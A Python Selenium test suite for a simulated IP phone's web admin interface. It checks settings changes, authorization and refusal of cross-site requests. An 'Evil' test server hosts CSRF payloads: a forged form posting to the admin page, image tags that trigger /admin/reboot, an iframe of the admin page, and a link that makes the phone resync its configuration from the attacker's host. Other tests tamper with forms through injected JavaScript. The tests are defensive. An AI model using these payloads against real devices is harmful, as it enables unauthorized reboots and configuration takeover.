# SPDX-License-Identifier: BSD-3-Clause
"""The phone's pages in a real browser, without a window; devices.md 14."""
import contextlib
import http.server
import threading

from selenium import webdriver
from selenium.common.exceptions import WebDriverException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import Select

from peers import Farm, check, main, scratch, wait_for

PHONE = "127.90.1.1:8190"
ADMIN = f"http://admin:geheim@{PHONE}"
EVIL = "127.90.255.9"


@contextlib.contextmanager
def browser():
    options = webdriver.ChromeOptions()
    options.binary_location = "/usr/bin/chromium"
    for option in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                   "--no-first-run", "--disable-background-networking", "--window-size=1200,900",
                   f"--user-data-dir={scratch()}"):
        options.add_argument(option)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(service=Service("/usr/bin/chromedriver"), options=options)
    try:
        driver.set_page_load_timeout(30)
        yield driver
    finally:
        driver.quit()


def farm(*options, password="geheim"):
    """One phone on the lab."""
    f = Farm("--count", "1", "--addr", "127.90.1.0/24", "--web", "8190", "--set",
             f"Admin_Passwd={password}", *options)
    f.call("wait", phones="1", cond="registered", timeout=30)
    return f


def field(driver, name):
    return driver.find_element(By.ID, name)


def write(driver, name, value):
    field(driver, name).clear()
    field(driver, name).send_keys(value)


def follow(driver, element):
    """Click, and wait for the page that it leads to."""
    old = driver.find_element(By.TAG_NAME, "html")
    element.click()

    def arrived():
        try:
            old.is_enabled()
            return False
        except WebDriverException:  # it is gone
            return driver.execute_script("return document.readyState") == "complete"
    wait_for("the next page", arrived)


def go(driver, link):
    follow(driver, driver.find_element(By.LINK_TEXT, link))


def button(driver, text):
    return driver.find_element(By.XPATH, f"//button[text()='{text}']")


def submit(driver):
    follow(driver, button(driver, "Submit All Changes"))


def value(f, name):
    return f.call("get", phones="1", names=[name])[name]


def check_console(driver):
    """The browser finds nothing wrong with the pages; the icon we do not have is no fault."""
    found = [e["message"] for e in driver.get_log("browser") if PHONE in e["message"] and
             e["level"] in ("WARNING", "SEVERE") and "favicon" not in e["message"]]
    check("no complaint", not found, found)


def a_change_makes_the_phone_register_anew():
    with farm() as f, browser() as driver:
        driver.get(f"{ADMIN}/admin/advanced")
        check("Info", "Registered" in driver.page_source)
        go(driver, "Ext 1")
        check("as provisioned", field(driver, "User_ID_1_").get_attribute("value") ==
              value(f, "User_ID_1_"))
        check("masked", field(driver, "Password_1_").get_attribute("value") == "********")
        write(driver, "Display_Name_1_", "<b>\"Ann\" & 'Bob' ä")
        write(driver, "Register_Expires_1_", "1234")
        button(driver, "Undo All Changes").click()
        check("undone", field(driver, "Register_Expires_1_").get_attribute("value") == "3600")
        check("nothing yet", f.line()["expires_s"] > 1234, f.line())
        write(driver, "Display_Name_1_", "<b>\"Ann\" & 'Bob' ä")
        write(driver, "Register_Expires_1_", "1234")
        Select(field(driver, "Use_Auth_ID_1_")).select_by_visible_text("Yes")
        write(driver, "Auth_ID_1_", value(f, "User_ID_1_"))
        submit(driver)
        check("told", driver.find_element(By.ID, "note").text == "4 parameters have changed.",
              driver.find_element(By.ID, "note").text)
        f.await_line("it registers anew", lambda l: l["registered"] and l["expires_s"] <= 1234)
        check("as typed", value(f, "Display_Name_1_") == "<b>\"Ann\" & 'Bob' ä",
              value(f, "Display_Name_1_"))
        check("shown as typed", field(driver, "Display_Name_1_").get_attribute("value") ==
              "<b>\"Ann\" & 'Bob' ä")
        submit(driver)
        check("nothing is new", "0 parameters" in driver.find_element(By.ID, "note").text)
        check_console(driver)


def every_tab_opens_and_sends_itself_unchanged():
    with farm("--model", "SPA525G2") as f, browser() as driver:
        driver.get(f"{ADMIN}/admin/advanced")
        names = [a.text for a in driver.find_elements(By.CSS_SELECTOR, "nav a")]
        check("tabs", names == ["Info", "System", "SIP", "Provisioning", "Regional", "Phone", "User",
                                "Ext 1", "Ext 2", "Ext 3", "Ext 4", "Ext 5", "Att Console",
                                "Call History", "Personal Directory", "Attendant Console Status"],
              names)
        for name in names[1:-3]:
            go(driver, name)
            current = driver.find_element(By.CSS_SELECTOR, "nav a[aria-current]").text
            check("it is the one", current == name, current)
            submit(driver)
            note = driver.find_element(By.ID, "note").text
            check(f"{name}: nothing is new", note == "0 parameters have changed.", note)
            check("nothing is refused", not driver.find_elements(By.ID, "refused"))
        check_console(driver)
        go(driver, "basic")
        check("fewer", len(driver.find_elements(By.CSS_SELECTOR, "nav a")) < len(names))
        check("still registered", f.line()["registered"])


def the_directory_and_the_calls_of_a_phone_are_pages():
    with farm("--model", "SPA525G2") as f, browser() as driver:
        f.call("dial", phones="1", number="555")
        f.call("hangup", phones="1")
        driver.get(f"{ADMIN}/admin/advanced?tab=Personal_Directory")
        write(driver, "name_1", "<i>\"Zoë\" & 'Bob'")
        write(driver, "number_1", "*77")
        write(driver, "name_2", "Ann")
        write(driver, "number_2", "12")
        submit(driver)
        check("told", driver.find_element(By.ID, "note").text == "2 entries have changed.")
        check("by name", field(driver, "name_2").get_attribute("value") == "Ann" and
              field(driver, "name_1").get_attribute("value") == "<i>\"Zoë\" & 'Bob'")
        submit(driver)
        check("nothing is new", "0 entries" in driver.find_element(By.ID, "note").text)
        write(driver, "name_1", "")
        write(driver, "number_1", "")
        submit(driver)
        check("one is gone", field(driver, "name_1").get_attribute("value") == "Ann")
        go(driver, "Call History")
        check("the call", "555" in driver.find_element(By.ID, "placed").text)
        follow(driver, driver.find_element(By.XPATH, "//button[text()='Delete']"))
        check("is gone", "No calls" in driver.find_element(By.ID, "placed").text)
        check_console(driver)


def without_log_in_nothing_can_be_changed():
    with farm() as f, browser() as driver:
        driver.get(f"http://{PHONE}/admin/advanced?tab=Ext_1")
        check("no page", not driver.find_elements(By.TAG_NAME, "form"), driver.page_source)
        driver.get(f"http://{PHONE}/advanced?tab=User")
        check("a user's page", field(driver, "Speed_Dial_2").is_displayed())
        check("not the account", not driver.find_elements(By.ID, "User_ID_1_"))
        write(driver, "Speed_Dial_2", "0123")
        submit(driver)
        check("his own", value(f, "Speed_Dial_2") == "0123")
        # what a curious user would do with the tools of his browser
        for action in ("?tab=User", "/admin/advanced"):
            driver.get(f"http://{PHONE}/advanced?tab=User")
            driver.execute_script(
                "const i = document.getElementById('Speed_Dial_2'); i.name = 'User_ID_1_';"
                "i.value = '666'; i.form.setAttribute('action', arguments[0])", action)
            submit(driver)
            check(f"nothing by {action}", value(f, "User_ID_1_") != "666")
        f.call("set", phones="1", values=["User_Password=meins"])
        driver.get(f"http://{PHONE}/advanced?tab=User")
        check("a password now", not driver.find_elements(By.TAG_NAME, "form"))


class Evil:
    """A site of somebody else's: pages by their path."""

    def __init__(self, pages):
        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                body = pages.get(self.path, "").encode()
                self.send_response(200 if body else 404)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer((EVIL, 8000), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def refuse_pages_of_others(password):
    """A browser sends what a phone asks for along with a form; to one that asks for nothing, which
    is how phones leave the factory, it sends pictures as well."""
    at = f"http://{PHONE}"
    form = (f"<form method=post action='{at}/admin/advanced'><input name=GPP_A value=stolen>"
            "<button>Win a prize</button></form>")
    hidden = "<meta name=referrer content=no-referrer>"
    evil = Evil({
        "/form": form, "/hidden-form": hidden + form,
        "/picture": f"<img src='{at}/admin/reboot' onerror='document.title=1'>",
        "/hidden-picture": hidden + f"<img src='{at}/admin/reboot' onerror='document.title=1'>",
        "/link": f"<a href='{at}/admin/resync?http://{EVIL}:8000/x.xml'>Win a prize</a>",
        "/frame": f"<iframe src='{at}/admin/advanced?tab=Ext_1' onload='document.title=1'></iframe>",
    })
    with farm(password=password) as f, browser() as driver:
        driver.get(f"{ADMIN}/admin/advanced")
        check("logged in", "Registered" in driver.page_source)
        for name in ("form", "hidden-form"):
            driver.get(f"http://{EVIL}:8000/{name}")
            follow(driver, driver.find_element(By.TAG_NAME, "button"))
            wait_for("the refusal", lambda: "403 Forbidden" in driver.page_source)
        for name in ("picture", "hidden-picture", "frame"):
            driver.get(f"http://{EVIL}:8000/{name}")
            wait_for("it has loaded", lambda: driver.title == "1")
        driver.switch_to.frame(0)
        check("no frame", not driver.find_elements(By.TAG_NAME, "form"))
        driver.get(f"http://{EVIL}:8000/link")
        follow(driver, driver.find_element(By.TAG_NAME, "a"))
        wait_for("the refusal", lambda: "403 Forbidden" in driver.page_source)
        check("nothing is stored", value(f, "GPP_A") == "", value(f, "GPP_A"))
        check("it runs on", not [e for e in f.call("events", phones="1") if e["ev"] == "reboot"])
        check("its own page still works", driver.get(f"{at}/admin/advanced?tab=Provisioning") is None)
        write(driver, "GPP_A", "mine")
        submit(driver)
        check("stored", value(f, "GPP_A") == "mine")
    evil.server.shutdown()
    evil.server.server_close()


def pages_of_others_are_refused():
    refuse_pages_of_others("geheim")


def and_where_there_is_no_password_too():
    refuse_pages_of_others("")


main([a_change_makes_the_phone_register_anew, every_tab_opens_and_sends_itself_unchanged,
      the_directory_and_the_calls_of_a_phone_are_pages, without_log_in_nothing_can_be_changed, pages_of_others_are_refused,
      and_where_there_is_no_password_too])
